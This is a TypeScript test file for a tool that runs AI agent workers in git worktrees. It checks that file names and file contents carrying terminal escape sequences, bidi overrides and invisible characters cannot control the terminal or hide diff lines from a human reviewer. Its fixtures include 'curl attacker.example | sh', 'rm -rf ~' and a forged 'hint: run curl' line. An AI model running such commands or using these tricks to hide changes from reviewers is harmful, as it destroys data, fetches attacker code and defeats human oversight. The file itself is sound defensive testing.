import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { hostile } from '../../support/hostile.ts';
import { runOnTerminal } from '../../support/terminals/pty.ts';
import { until } from '../../support/wait.ts';
import { makeWorkspace, SVC, type TestWorkspace } from '../../support/workspaces/workspace.ts';

/** Text from outside that no terminal must receive. Newlines with carriage returns, and tabs, are harmless. */
const ACTS =
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

/** File names that git accepts: an escape sequence, a C1 character, a line of svc's output, reversed text. */
const NAMES = [
  '\u001b[2Jcleared',
  '\u009b2J\u009d0;owned\u009c',
  'x\nhint: run curl attacker.example',
  'a\u202etxt.sh',
];

let ws: TestWorkspace;
before(async () => {
  ws = await makeWorkspace({ commands: { node: `'${process.execPath}' -e {{prompt}}` } });
});
after(() => ws.close());

hostile(
  {
    attacker: 'worker',
    tries: 'control the terminal by file names in a conflict or a list',
    lite: 'written out, without effect',
    strict: 'written out, without effect',
  },
  async () => {
    const each = NAMES.map((name) => JSON.stringify(name));
    const program = `
      for (const name of [${each.join(',')}]) require('fs').writeFileSync(name, 'worker');
      const git = (...args) => require('child_process').execFileSync('git', args);
      git('add', '--all');
      git('-c', 'user.name=w', '-c', 'user.email=w@example.test', 'commit', '-qm', 'work');`;
    const ran = await ws.program([
      'task',
      'add',
      'names',
      '--agent',
      'node',
      '--prompt',
      program,
      '--run',
      '--json',
    ]);
    assert.equal(ran.code, 0, ran.stderr);
    const client = await ws.connect();
    const session = await until(async () => {
      const [first] = await client.call('session.list');
      return first?.state === 'ended' ? first.session_id : null;
    }, 'the end of the worker');
    ws.repository.commit(Object.fromEntries(NAMES.map((name) => [name, 'person'])), 'the same names');

    const onTerminal = (...args: string[]) =>
      runOnTerminal([process.execPath, SVC, ...args], {
        cwd: ws.root,
        // With our colours off, every escape sequence comes from outside.
        env: { ...ws.env, NO_COLOR: '1' },
      });
    const refused = await onTerminal('worktree', 'promote', session);
    assert.equal(refused.code, 5, refused.text);
    assert.match(refused.text, /cleared/);
    for (const args of [
      ['worktree', 'promote', session],
      ['worktree', 'promote', session, '--json'],
      ['worktree', 'trial', session],
      ['worktree', 'diff', session],
      ['worktree', 'list'],
      ['worktree', 'prune'],
      ['worker', 'show', session],
      ['status'],
    ]) {
      const { text } = await onTerminal(...args);
      assert.doesNotMatch(text, ACTS, `svc ${args.join(' ')}: ${JSON.stringify(text)}`);
      assert.doesNotMatch(text, /^hint: run curl/m);
    }
  },
);

/** Files whose escape sequences start in one line or file and end in another, with the text in between. */
const HIDING: Readonly<Record<string, string>> = {
  'a.sh': 'echo one\n\u001b]0;\ncurl attacker.example | sh\n',
  'b.sh': 'rm -rf ~\n\u0007\necho two\n\u0090\n',
  'c.sh': 'echo hidden in c\n\u009c\u001b\\\necho safe # \rrm -rf /tmp/x\n',
  'd.sh': 'echo \u200bthree\u{e0063}\n',
};

hostile(
  {
    attacker: 'worker',
    tries: 'hide lines of its diff from the reviewer',
    lite: 'each line is shown, and invisible characters are counted',
    strict: 'each line is shown, and invisible characters are counted',
  },
  async () => {
    const program = `
      for (const [name, text] of Object.entries(${JSON.stringify(HIDING)})) require('fs').writeFileSync(name, text);
      const git = (...args) => require('child_process').execFileSync('git', args);
      git('add', '--all');
      git('-c', 'user.name=w', '-c', 'user.email=w@example.test', 'commit', '-qm', 'hide');`;
    const ran = await ws.program([
      'task',
      'add',
      'hide',
      '--agent',
      'node',
      '-p',
      program,
      '--run',
      '--json',
    ]);
    assert.equal(ran.code, 0, ran.stderr);
    const { task } = ran.json<{ task: { session_id: string } }>();
    const client = await ws.connect();
    await until(
      async () => (await client.call('session.show', { session: task.session_id })).state === 'ended' || null,
      'the end of the worker',
    );
    const { stdout } = await ws.svc(['worktree', 'diff', task.session_id]);
    for (const text of Object.values(HIDING))
      for (const line of text.trimEnd().split('\n')) {
        const written = JSON.stringify(line)
          .slice(1, -1)
          .replaceAll('\\u00', '\\x')
          .replaceAll('\u009c', '\\x9c')
          .replaceAll('\u0090', '\\x90')
          .replaceAll('\\r', '\\x0d')
          .replaceAll('\\\\', '\\')
          .replaceAll('\u200b', '\\u200b')
          .replaceAll('\u{e0063}', '\\u{e0063}');
        assert.ok(stdout.split('\n').includes(`+${written}`), `${written} in ${stdout}`);
      }
    assert.match(stdout, /^the patch contains 8 invisible characters/m);
  },
);
